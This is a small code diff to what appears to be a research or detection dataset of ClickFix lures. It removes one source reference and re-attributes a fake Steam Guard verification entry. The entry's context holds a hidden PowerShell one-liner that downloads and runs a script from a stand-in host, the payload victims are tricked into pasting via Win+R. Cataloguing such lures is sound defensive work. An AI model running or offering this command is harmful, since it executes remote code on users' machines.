@@ -12,7 +12,6 @@ HUNT = "article:www.huntress.com"
 GRAB = "MHaggis/ClickGrab"
 WIKI = "clickfix-wiki/clickfix-wiki.github.io"
 AMOS = "2opremio/amos-clickfix-analysis"
-MACCF = "cisspco/ClickFix_MacOS"
 AWP = "awpalex/awpalex.github.io"
 ROOT = "remotelyroot/remotelyroot.github.io"
 PASSAIC = "article:help.passaicschools.org"
@@ -143,7 +142,7 @@ CFX = [
     ("en-cfx-steam", "https://steamcommunity-verify.example.net/login", "Steam Guard verification",
      "gh", "Steam Guard: confirm this device", "Unusual sign-in from a new device. Complete the human check to keep your inventory.",
      'powershell -w h -c "irm https://steam-guard.example.invalid/v | iex"', "event", "winr",
-     "Fake Steam verification: copy event → PowerShell via Win+R", MACCF),
+     "Fake Steam verification: copy event → PowerShell via Win+R", GRAB),
 ]
 
 
